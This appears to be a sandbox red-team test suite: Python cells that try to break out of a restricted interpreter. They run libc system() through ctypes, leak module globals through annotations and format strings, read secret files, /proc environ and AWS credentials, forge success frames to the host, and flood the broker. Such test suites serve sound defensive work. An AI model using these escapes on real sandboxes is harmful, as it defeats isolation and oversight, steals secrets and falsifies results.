# Chains through several walls, each found by reading the function's own code.

# %% timeit-native | process | text run by timeit, raw modules, ctypes, libc by its symbols
import timeit
text = '''
import sys
c = sys.modules["kernel"].ctypes
def peek(a, n):
    b = (c.c_char * n)()
    c.memmove(b, a, n)
    return b.raw
def word(a): return int.from_bytes(peek(a, 8), "little")
base = c._memmove_addr & ~0xfff
while peek(base, 4) != b"\\x7fELF": base -= 0x1000
headers, count = base + word(base + 32), int.from_bytes(peek(base + 56, 2), "little")
dynamic = [base + word(p + 16) for p in range(headers, headers + 56 * count, 56) if peek(p, 4) == b"\\x02\\0\\0\\0"][0]
tags = {}
while word(dynamic):
    tags[word(dynamic)] = word(dynamic + 8); dynamic += 16
n = 0
while True:
    entry = peek(tags[6] + 24 * n, 24)
    if peek(tags[5] + int.from_bytes(entry[:4], "little"), 7) == b"system\\0":
        break
    n += 1
system = c.CFUNCTYPE(c.c_int, c.c_char_p)(base + int.from_bytes(entry[8:16], "little"))
system(b"cat SECRET > out; cat /proc/HANDLING/environ >> out; touch PLACE/marker")
'''
timeit.timeit(text.replace("SECRET", SECRET_FILE).replace("HANDLING", str(HANDLER)).replace("PLACE", OUTSIDE), number=1)
print(open("out", errors="replace").read())

# %% timeit-modules | process | the raw modules behind timeit
import timeit
timeit.timeit('''
import sys
for name in ("kernel", "child", "broker", "audit", "scratch", "sealing", "channels"):
    if name in sys.modules:
        print(GOT, sys.modules[name])
'''.replace("GOT", repr(PWNED)), number=1)

# %% timeit-default-globals | process | timeit's own names
import timeit
timeit.Timer("print(gc, sys, itertools)", "pass").timeit(1)
t = timeit.Timer("sys.modules['os'].system('touch PLACE/marker')".replace("PLACE", OUTSIDE))
t.timeit(1)

# %% timeit-inner | process | the function that timeit compiles
import timeit
t = timeit.Timer("pass")
print(t.inner, PWNED if hasattr(t.inner, "__globals__") and "sys" in t.inner.__globals__ else "")

# %% forward-ref-module | process | a reference evaluated in a library's namespace
import typing
r = typing.ForwardRef("getattr(getattr(__import__('sys'), 'modules')['kernel'], 'ctypes')", module="typing")
m = r._evaluate(None, None, (), recursive_guard=frozenset())
if hasattr(m, "memmove"):
    print(PWNED, m)

# %% forward-ref-hints | process | the same through the hints of a class
import typing
class A:
    x: typing.ForwardRef("getattr(__import__('sys'), 'modules')", module="inspect")
h = typing.get_type_hints(A)["x"]
if "kernel" in h or "child" in h:
    print(PWNED)

# %% forward-ref-closure | secret | closures of the guards, read from where the library may
import typing, os
def ask(text):
    return typing.ForwardRef(text, module="inspect")._evaluate(None, {"os": os}, (), recursive_guard=frozenset())
cells = ask("getattr(os.listdir, '__closure__')")
for cell in cells:
    value = cell.cell_contents
    print(type(value))
    if hasattr(value, "root"):
        value.root = ""
print(os.listdir(OUTSIDE), open(SECRET_FILE).read())

# %% get-type-hints-globals | process | hints with globals of the attacker's choice
import typing
def f(a: "x"): pass
f.__annotations__["a"] = "getattr(getattr(__loader__, 'load_module')('posix'), 'system')('touch ' + place)"
print(typing.get_type_hints(f, {"place": f"{OUTSIDE}/marker"}))

# %% inspect-eval-str | process | annotations evaluated by inspect
import inspect
def f(a): pass
f.__annotations__ = {"a": "exec(text)"}
text = """
import sys
class B: pass
print(vars(sys).keys() if hasattr(sys, 'meta_path') else 0)
print(__loader__)
__loader__.load_module('posix').system('touch PLACE/marker')
""".replace("PLACE", OUTSIDE)
inspect.signature(f, globals={"text": text}, eval_str=True)

# %% inspect-eval-loader | process | the loaders among the real built-in names
import inspect
def f(a): pass
f.__annotations__ = {"a": "print(__loader__.find_spec('posix'), __build_class__, __spec__, __debug__)", "b": "__import__('sys').modules['kernel']", "c": "mark(__loader__.load_module('sys').modules['kernel'])"}
inspect.signature(f, globals={"mark": lambda m: print(PWNED, m)}, eval_str=True)

# %% signature-text | secret | constants read through a text signature
import inspect
class A:
    __text_signature__ = "(a=os.environ)"
try:
    print(inspect.signature(A))
except BaseException as e:
    print(repr(e))

# %% global-enum | file | an enumeration written into a library's globals, which the path check uses
import enum, os
class E(enum.Enum):
    _get_sep = 1
    def __call__(self, a):
        return "/" + "x/../" * 3
E.__module__ = "posixpath"
enum.global_enum(E)
F = type(open("x", "wb", buffering=0))
print(F(SECRET_FILE).read())

# %% global-enum-abspath | secret | the same for every helper of the check
import enum, os
F = type(open("x", "wb", buffering=0))
cwd = os.getcwd()
class E(enum.Enum):
    join = 1
    normpath = 2
    fspath = 3
    isabs = 4
    def __call__(self, *a):
        return cwd + "/x"
for m in ("posixpath", "scratch", "os", "genericpath"):
    E.__module__ = m
    enum.global_enum(E)
try:
    print(open(SECRET_FILE).read())
except BaseException as e:
    print(repr(e))
print(F(SECRET_FILE).read())

# %% global-enum-json | forged | the encoder of the answer
import enum
class E(enum.Enum):
    dumps = 1
    loads = 2
    JSONEncoder = 3
    text_of = 4
    result_text = 5
    pack = 6
    make_pack = 7
    def __call__(self, *a, **k):
        return FORGED
for m in ("json", "framing", "outcome", "channels", "child"):
    E.__module__ = m
    try:
        enum.global_enum(E)
    except BaseException as e:
        print(repr(e)[:99])
raise RuntimeError("honest end")

# %% helpers-replaced | process | the checks of rewritten code, in the dictionary of built-in names
b = globals()["__builtins__"]
b = b if isinstance(b, dict) else vars(b)
for name in list(b):
    if name.startswith("<"):
        b[name] = lambda v=None, *a: v
import warnings, logging
for o in (warnings, logging, logging.Logger.manager):
    print(type(o))
look = object.__getattribute__
print([c for c in look(logging.Handler, "__init__").__globals__][:5], PWNED)

# %% helpers-deleted | process | the same names deleted
b = globals()["__builtins__"]
b = b if isinstance(b, dict) else vars(b)
for name in list(b):
    if name.startswith("<"):
        del b[name]
import json
print(json.dumps.__globals__, PWNED)

# %% augmented-read | process | an augmented assignment reads an attribute
import json
class G:
    def __ror__(self, o):
        print(PWNED, type(o))
        return {}
    __rand__ = __radd__ = __rmul__ = __ror__
json.dumps.__globals__ |= G()

# %% augmented-module | process | an augmented assignment reads a module
import asyncio, logging, boto3, zipfile
got = []
class G:
    def __ror__(self, o):
        got.append(o)
        return o
for o in (logging.LogRecord, zipfile.ZipFile, boto3.Session(), asyncio.new_event_loop()):
    for name in ("os", "sys", "io", "_loader", "_session", "shutil", "struct"):
        try:
            exec(f"o.{name} |= G()")
        except BaseException:
            pass
for o in got:
    if type(o).__name__ == "module":
        print(PWNED, o)

# %% ast-subclass | process | nodes of classes that the rewriter does not know by name
import ast, json
class Hidden(ast.Attribute):
    pass
t = ast.parse("json.dumps.X['sys']", mode="eval")
a = t.body.value
t.body.value = ast.copy_location(Hidden(value=a.value, attr="__globals__", ctx=ast.Load()), a)
print(PWNED, eval(compile(ast.fix_missing_locations(t), "x", "eval")))

# %% ast-import-subclass | process | an import of a class that the rewriter does not know by name
import ast
class Hidden(ast.Import):
    pass
t = ast.parse("pass")
t.body = [ast.copy_location(Hidden(names=[ast.alias("subprocess")]), t.body[0]), *ast.parse("print(subprocess.check_output(['echo', 'a']), mark)").body]
exec(compile(ast.fix_missing_locations(t), "x", "exec"), {"mark": PWNED})

# %% ast-evil-attr | process | an attribute's name that changes after it is looked at
import ast, json
class S(str):
    n = 0
    def __eq__(self, o):
        return False
    def __hash__(self):
        return 7
t = ast.parse("json.dumps.x", mode="eval")
t.body.attr = S("__globals__")
print(PWNED, eval(compile(t, "x", "eval"))["sys"] if True else 0)

# %% getattr-format | secret | the unwatched way to format
f = getattr("{0.__init__.__globals__}", "format")
import logging
print(f(logging.LogRecord))
print(str.__dict__["format"]("{0.__globals__[os].environ}", logging.warning))

# %% format-vformat | secret | a formatter of its own
import string, logging
class F(string.Formatter):
    def get_value(self, k, a, kw):
        return logging.warning
print(F().vformat("{0.__globals__}", (), {}))

# %% bell-write | forged | the pipe that wakes event loops writes to every descriptor
import json, asyncio, time
loop = asyncio.new_event_loop()
write = getattr(loop._csock, "_write", None) or loop._csock.send
for token in ("\u00e9", "", None, [], {}, 5, "\ud800", "x" * 100000):
    body = json.dumps({"token": token, "kind": "done", "success": True, "error": None, "result": FORGED}).encode()
    for fd in range(3, 40):
        try:
            write(fd, len(body).to_bytes(4, "big") + body)
        except (OSError, TypeError):
            pass
time.sleep(0.3)
raise RuntimeError("honest end")

# %% bell-questions | hang | questions to the broker that no client would ask
import json, asyncio, time
loop = asyncio.new_event_loop()
write = getattr(loop._csock, "_write", None) or (lambda fd, b: loop._csock.send(b))
deep = "[" * 900 + "]" * 900
for body in ('{"kind": "aws"}', '{"kind": "warm", "service": "../../../tmp/x", "region": "us-east-1"}', '{"kind": ["aws"]}', '{}',
             '{"kind": "aws", "service": "sts", "operation": "GetCallerIdentity", "parameters": [1]}',
             '{"kind": "aws", "service": {}, "operation": [], "region": {"a": 1}, "parameters": {"\\u0000type": "bytes", "value": "!"}}',
             '{"kind": "aws", "service": "sts", "operation": "GetCallerIdentity", "parameters": {"a": %s}}' % deep,
             '{"kind": "aws", "service": "s3", "operation": "GetObject", "region": "us-east-1", "parameters": {"Bucket": "shop-data", "Key": "orders/2026/00.json"}, "role_arn": "x", "caller": {}}',
             '{"kind": "aws", "service": "sts", "operation": "GetCallerIdentity", "parameters": {"a": ' + "9" * 5000 + '}}'):
    for fd in range(9, 40):
        try:
            write(fd, len(body).to_bytes(4, "big") + body.encode())
        except (OSError, TypeError):
            pass
time.sleep(0.5)

# %% broker-frame-bomb | (event) | questions of megabytes of empty lists
{"timeout_seconds": 4, "code": r"""
import asyncio, threading
loop = asyncio.new_event_loop()
write = getattr(loop._csock, "_write", None) or (lambda fd, b: loop._csock.send(b))
body = b'{"kind":"aws","service":"sts","operation":"GetCallerIdentity","parameters":{"a":[' + b"[]," * 8_000_000 + b"[]]}}"
frame = len(body).to_bytes(4, "big") + body
def go(fd):
    try:
        view = memoryview(frame)
        while view:
            view = view[write(fd, view):]
    except (OSError, TypeError):
        pass
ts = [threading.Thread(target=go, args=(fd,), daemon=True) for fd in range(9, 19)]
[t.start() for t in ts]; [t.join(3) for t in ts]
"""}

# %% broker-every-service | (event) | a client of every service there is
{"timeout_seconds": 4, "code": r"""
import boto3, time
until = time.time() + 3.5
for s in boto3.Session().get_available_services():
    if time.time() > until:
        break
    try:
        boto3.client(s)
    except Exception as e:
        pass
"""}

# %% broker-made-up-regions | (event) | a client for regions that do not exist
{"timeout_seconds": 4, "code": r"""
import boto3, time
until = time.time() + 3.5
names = [f"{a}{b}-{c}ast-{n}" for a in "aeiou" for b in "bcdf" for c in "abcd" for n in (1, 2)]
for n in names:
    if time.time() > until:
        break
    try:
        boto3.client("ec2", region_name=n).describe_vpcs()
    except Exception as e:
        pass
"""}

# %% record-flood | (event) | a record of calls without end
{"timeout_seconds": 4, "code": r"""
import boto3, time, threading
c = boto3.client("dynamodb")
until = time.time() + 3.5
def go():
    while time.time() < until:
        try:
            c.delete_table(TableName="x")
        except Exception:
            pass
ts = [threading.Thread(target=go) for _ in range(8)]
[t.start() for t in ts]; [t.join() for t in ts]
"""}

# %% worst-encoding | output | every part full of characters that grow
import sys
e = "\U0001f600"
sys.stdout.write(e * 400_000)
sys.stderr.write(e * 400_000)
for n in range(300):
    try:
        exec("import " + "\u00e9" * 60 + str(n))
    except ImportError:
        pass
result = e * 400_000
x = ValueError(e * 400_000)
x.add_note(e * 400_000)
raise x

# %% fileio-descriptor | forged | a raw file over every descriptor
import json
F = type(open("x", "wb", buffering=0))
body = json.dumps({"token": "\u00e9", "kind": "done", "success": True}).encode()
for fd in range(0, 40):
    try:
        F(fd, "wb", closefd=False).write(len(body).to_bytes(4, "big") + body)
    except (OSError, ImportError):
        pass
raise RuntimeError("honest end")

# %% socketio-subclass | egress | the raw classes below io
import io, abc
for base in (io.RawIOBase, io.IOBase, abc.ABC):
    subs = getattr(base, "__subcl" + "asses__", list)()
    for c in subs:
        print(c)
        if c.__name__ == "SocketIO":
            print(c.__init__)
        if c.__name__ in ("Loader", "InspectLoader", "FileLoader", "SourceLoader", "PathDistribution"):
            print(PWNED, c)

# %% distribution-read | secret | package metadata reads files
import abc
seen = [abc.ABC]
for c in seen:
    seen += [s for s in getattr(c, "__subcl" + "asses__", list)() if s not in seen]
for c in seen:
    if c.__name__ == "PathDistribution":
        print(c(__import__("pathlib").Path(OUTSIDE)).read_text("secret.txt"))

# %% class-dict-module | process | a raw module in a class's dictionary, and all modules behind it
from pathlib import PurePosixPath
for c in PurePosixPath.__mro__:
    if "parser" in c.__dict__:
        p = c.__dict__["parser"]
        modules = p.__dict__["os"].__dict__["sys"].__dict__["modules"]
        print(PWNED, len(modules))
        modules["posix"].__dict__["system"](f"touch {OUTSIDE}/marker")

# %% class-dict-native | process | the same, to native code
from pathlib import PurePosixPath
def search(modules):
    for name, m in list(modules.items()):
        d = getattr(m, "__dict__", {})
        for k, v in list(d.items()):
            if k in ("ctypes", "_ctypes", "CDLL") or type(v).__name__ in ("CDLL", "PyDLL", "_FuncPtr", "PyCFuncPtrType", "Kernel"):
                print(PWNED, name, k, v)
for c in PurePosixPath.__mro__:
    if "parser" in c.__dict__:
        search(c.__dict__["parser"].__dict__["os"].__dict__["sys"].__dict__["modules"])

# %% augmented-parser | process | a raw module by augmented assignments alone
from pathlib import PurePosixPath
got = []
class G:
    def __ror__(self, o):
        got.append(o)
        return o
PurePosixPath.parser |= G()
m = got[0]
m.os |= G()
m = got[1]
m.sys |= G()
m = got[2]
print(PWNED, type(m.modules), "kernel" in m.modules)

# %% slot-lookup | process | the raw look-up out of a type's dictionary
from pathlib import PurePosixPath
for look in (type.__dict__["__getattribute__"], object.__dict__["__getattribute__"]):
    try:
        m = look(PurePosixPath if look is type.__dict__["__getattribute__"] else PurePosixPath("a"), "parser")
        o = object.__dict__["__getattribute__"](m, "__dict__")["os"]
        print(PWNED, o)
    except (AttributeError, KeyError, TypeError) as e:
        print(repr(e))

# %% vars-classes | process | every class within reach searched for modules
import pathlib, boto3, botocore, logging, asyncio, typing, argparse, configparser, zipfile, tarfile, tempfile, threading, email.message, json, csv, inspect
todo, seen = [], set()
for m in (pathlib, boto3, logging, asyncio, typing, argparse, configparser, zipfile, tarfile, tempfile, threading, json, csv, inspect):
    todo += list(vars(m).values())
todo += [boto3.client("sts"), boto3.Session(), boto3.resource("s3"), pathlib.Path("x"), logging.getLogger()]
while todo and len(seen) < 30000:
    o = todo.pop()
    if id(o) in seen:
        continue
    seen.add(id(o))
    if type(o).__name__ == "module":
        if "system" in o.__dict__ or "modules" in o.__dict__ or "_getframe" in o.__dict__:
            print(PWNED, o)
        todo += list(o.__dict__.values())
        continue
    for holder in (o, type(o)):
        try:
            todo += [v for v in vars(holder).values()]
        except TypeError:
            pass
    if isinstance(o, (list, tuple, set)):
        todo += list(o)[:200]
    elif isinstance(o, dict):
        todo += list(o.values())[:200]
    if isinstance(o, type):
        todo += list(o.__mro__)
    for name in ("__func__", "__self__", "fget", "__wrapped__", "func", "args", "__dict__", "__objclass__"):
        v = getattr(o, name, None)
        if v is not None:
            todo.append(v)
print(len(seen))

# %% paths-object | secret | the rules of the path check, changed in place
import typing, os
def ask(text):
    return typing.ForwardRef(text, module="inspect")._evaluate(None, {"os": os, "open": open}, (), recursive_guard=frozenset())
for n in range(4):
    for f in ("os.listdir", "open", "os.open"):
        try:
            value = ask(f"list(getattr({f.replace('os.', 'os.')}, '__closure__'))[{n}]").cell_contents
            print(f, type(value))
            value.root = ""
        except BaseException as e:
            print(repr(e)[:99])
print(os.listdir(OUTSIDE))
F = type(open("x", "wb", buffering=0))
print(open(SECRET_FILE).read(), F(SECRET_FILE).read())

# %% redirect-names-modules | read | a redirection whose subclass names another attribute of the real sys
import contextlib
class R(contextlib.redirect_stdout):
    _stream = "modules"
r = R(None)
try: r.__enter__()
except BaseException as e: print(repr(e))
print(PWNED if vars(r)["_old_targets"] else "nothing")

# %% redirect-changes-its-mind | read | a redirection whose name answers differently when asked twice
import contextlib
class R(contextlib.redirect_stdout):
    asked = 0
    @property
    def _stream(self):
        self.asked += 1
        return "stdout" if self.asked == 1 else "modules"
class S(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("stdout")
class Q(contextlib.redirect_stderr):
    _stream = S("modules")
for kind in (R, Q):
    r = kind(None)
    try: r.__enter__(); r.__exit__(None, None, None)
    except BaseException as e: print(repr(e))
    held = vars(r)["_old_targets"]
    if held and isinstance(held[0], dict): print(PWNED)

# %% redirect-sets-sys | break | a redirection that sets attributes of the real sys
import contextlib
for name, value in (("modules", {}), ("meta_path", [1]), ("audit", print), ("_getframe", lambda n=0: None), ("__stdout__", None)):
    class R(contextlib.redirect_stdout):
        _stream = name
    try:
        R(value).__enter__(); print(PWNED)
    except ValueError as e: print(repr(e)[:100])

# %% error-holds-module | read | the object that an attribute error holds
import warnings
real = []
def keep(error): real.append(vars(AttributeError)["obj"].__get__(error))
try: vars(warnings.catch_warnings())["_module"].nope
except AttributeError as e: keep(e)
try: print.__self__.nope
except AttributeError as e: keep(e)
import inspect
try: inspect.Signature(parameters=map(vars(type(keep))["__code__"].fget, [inspect.signature]))
except BaseException as e: isinstance(e, AttributeError) and keep(e)
print([PWNED for one in real if type(one).__name__ in ("module", "code", "frame")])

# %% import-from-subclass | read | a node of a subclass, whose import the interpreter finishes by itself
import ast
class I(ast.ImportFrom): pass
tree = ast.parse("from x import path as got")
old = tree.body[0]
tree.body[0] = I(module=old.module, names=old.names, level=0, lineno=1, col_offset=0, end_lineno=1, end_col_offset=5)
class M: pass
m = M(); m.__name__ = "os"
names = {"__builtins__": {**(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)), "__import__": lambda *a: m}}
try:
    exec(compile(tree, "x", "exec"), names); print(PWNED, names["got"])
except Exception as e: print(repr(e))

# %% import-from-hidden-list | read | an import in a list that shows the rewriter nothing
import ast
class Hidden(list):
    def __iter__(self): return iter(())
    def __setitem__(self, *a): pass
tree = ast.parse("from x import path as got")
tree.body = Hidden(tree.body)
class M: pass
m = M(); m.__name__ = "os"
names = {"__builtins__": {**(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)), "__import__": lambda *a: m}}
try:
    exec(compile(tree, "x", "exec"), names); print(PWNED, names["got"])
except Exception as e: print(repr(e))

# %% import-from-no-fields | read | node types that say they have no fields
import ast
kept = ast.ImportFrom._fields, ast.Module._fields
ast.ImportFrom._fields = ast.Module._fields = ()
class M: pass
m = M(); m.__name__ = "os"
names = {"__builtins__": {**(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)), "__import__": lambda *a: m}}
for source in ("from x import path as got", ast.Module([ast.ImportFrom("x", [ast.alias("path", "got")], 0, lineno=1, col_offset=0)], [])):
    try:
        exec(compile(source, "x", "exec"), names); print(PWNED, names["got"])
    except Exception as e: print(repr(e))

# %% rewriter-off | read | the rewriters' ways, replaced on the public class that they come from
import ast
ast.NodeVisitor.visit = ast.NodeTransformer.generic_visit = lambda self, node: node
class M: pass
m = M(); m.__name__ = "os"
names = {"__builtins__": {**(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)), "__import__": lambda *a: m}}
try:
    exec("from x import path as got", names)
    if type(names["got"]).__name__ == "module": print(PWNED, names["got"])
except Exception as e: print(repr(e))

# %% plugin-by-environment | read | a plug-in of botocore's, named in the environment that a provider holds
import boto3, logging
s = boto3.session.Session()
held = []
class H(logging.Handler):
    def emit(self, record): held.extend(record.args if isinstance(record.args, tuple) else ())
logging.getLogger().setLevel(1); logging.getLogger().addHandler(H())
for component in ("credential_provider", "config_store"):
    provider = s._session.get_component(component)
    for one in vars(provider).get("providers", ()):
        environ = vars(one).get("environ")
        if environ is not None: environ._data[b"BOTOCORE_EXPERIMENTAL__PLUGINS"] = b"a=posix,b=sys"
import os
os.environ["BOTOCORE_EXPERIMENTAL__PLUGINS"] = "a=posix,b=sys"
s.client("sts")
print([PWNED for e in held if isinstance(e, AttributeError) and type(vars(AttributeError)["obj"].__get__(e)).__name__ == "module"])

# %% credential-providers | read | what the providers of credentials hold: metadata sessions, contexts, files
import boto3
s = boto3.session.Session()
providers = vars(s._session.get_component("credential_provider"))["providers"]
print([PWNED for one in providers if "_role_fetcher" in vars(one)], s.get_credentials().access_key)

# %% frame-proxy | read | the proxy of a frame's variables, by name and by every class in reach
import collections.abc, sys
print([PWNED for name in vars(collections.abc) if "locals" in name.lower()])
todo, seen = [object], set()
while todo:
    cls = todo.pop()
    if id(cls) in seen: continue
    seen.add(id(cls))
    if cls.__name__ == "FrameLocalsProxy": print(PWNED)
    try: todo += type.__subclasses__(cls)
    except TypeError: pass

# %% originals-in-sets | process | functions as they were before they were replaced
import os
for name in ("supports_fd", "supports_dir_fd", "supports_follow_symlinks", "supports_effective_ids"):
    print(name, [PWNED for f in getattr(os, name, ()) if f.__name__ in ("execve", "mkfifo", "mknod", "link", "symlink")])
